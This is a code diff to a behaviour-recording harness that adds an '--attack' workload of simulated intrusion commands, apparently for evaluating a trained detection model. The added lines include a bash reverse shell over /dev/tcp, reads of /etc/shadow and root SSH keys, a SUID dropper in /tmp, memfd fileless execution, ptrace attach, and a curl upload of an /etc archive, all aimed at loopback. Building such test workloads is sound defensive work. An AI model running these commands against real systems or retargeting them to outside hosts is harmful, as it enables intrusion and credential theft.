@@ -170,6 +170,59 @@ def workload(round_no: int, rng: random.Random, py: str) -> list[str]:
     return cmds[:4] + rest
 
 
+ATTACK_PY_LISTENER = """
+import socket, sys
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", {port})); s.listen(1); s.settimeout(20)
+c, _ = s.accept(); c.sendall(b"id; uname -a; cat /etc/passwd | head -3; exit\\n")
+c.settimeout(5)
+try:
+    while c.recv(4096): pass
+except OSError: pass
+"""
+
+ATTACK_MEMFD = """
+import os
+fd = os.memfd_create("x", 0)
+os.write(fd, open("/bin/true", "rb").read())
+pid = os.fork()
+if pid == 0:
+    os.execv(f"/proc/self/fd/{fd}", ["x"])
+os.waitpid(pid, 0)
+"""
+
+ATTACK_PTRACE = """
+import ctypes, os, subprocess, time
+libc = ctypes.CDLL(None, use_errno=True)
+p = subprocess.Popen(["sleep", "5"])
+time.sleep(0.2)
+libc.ptrace(16, p.pid, None, None)  # PTRACE_ATTACH
+time.sleep(0.1)
+libc.ptrace(17, p.pid, None, None)  # PTRACE_DETACH
+p.kill(); p.wait()
+"""
+
+
+def attack_workload(round_no: int, rng: random.Random, py: str) -> list[str]:
+    """Evaluation only, never training data: intrusion-like behaviour, on loopback and in the temp dir, undone
+    at once. Reverse shell to a loopback listener, port scan of loopback, dropper run from /tmp, credential
+    file reads, SUID search, fileless exec from a memfd, ptrace attach, unshare, staged archive of /etc."""
+    port = 20000 + rng.randint(0, 20000)
+    return [
+        f"({py} - <<'EOF'\n{ATTACK_PY_LISTENER.format(port=port)}\nEOF\n) & sleep 0.5;"
+        f" bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'; wait",
+        "for p in $(seq 1 200); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true",
+        "cp /bin/ls /tmp/.rvn_x$$ && chmod 4755 /tmp/.rvn_x$$ && /tmp/.rvn_x$$ / >/dev/null; rm -f /tmp/.rvn_x$$",
+        "cat /etc/shadow >/dev/null; cat /root/.ssh/id_* 2>/dev/null; cat /etc/sudoers >/dev/null 2>&1",
+        "find / -xdev -perm -4000 -type f 2>/dev/null | head -20 >/dev/null",
+        f"{py} - <<'EOF'\n{ATTACK_MEMFD}\nEOF",
+        f"{py} - <<'EOF'\n{ATTACK_PTRACE}\nEOF",
+        "unshare -r id >/dev/null 2>&1; true",
+        "tar czf /tmp/.rvn_etc$$.tgz /etc 2>/dev/null; curl -s -m 1 -T /tmp/.rvn_etc$$.tgz http://127.0.0.1:9/ ;"
+        " rm -f /tmp/.rvn_etc$$.tgz; true",
+    ]
+
+
 def cgroup_create() -> tuple[Path, int]:
     for base in (Path("/sys/fs/cgroup"), Path("/sys/fs/cgroup/unified")):  # pure v2, or hybrid
         if (base / "cgroup.procs").exists() and (base / "cgroup.subtree_control").exists():
@@ -187,6 +240,8 @@ def main() -> int:
     ap.add_argument("--seconds", type=float, default=300, help="how long to run the workload")
     ap.add_argument("--config", default="", help="ravn config for recording (default: four probes, no analyzers)")
     ap.add_argument("--seed", type=int, default=1)
+    ap.add_argument("--attack", action="store_true",
+                    help="run the intrusion-like workload instead (evaluation of a trained model; never train on it)")
     ap.add_argument("--keep-raw", action="store_true", help="keep the unfiltered recording and the recorder log")
     ap.add_argument("--exclude-comm", action="append", default=[],
                     help="comm of unrelated busy processes to filter in the kernel (less load, fewer drops; "
@@ -223,7 +278,8 @@ def main() -> int:
         while time.monotonic() < end:
             rounds += 1
             d = Path(tempfile.mkdtemp(prefix=f"round{rounds}-", dir=work))
-            script = "set +e\n" + "\n".join(workload(rounds, rng, py)) + "\n"
+            cmds = (attack_workload if args.attack else workload)(rounds, rng, py)
+            script = "set +e\n" + "\n".join(cmds) + "\n"
 
             def enter_cgroup() -> None:
                 procs_file.write_text(str(os.getpid()))
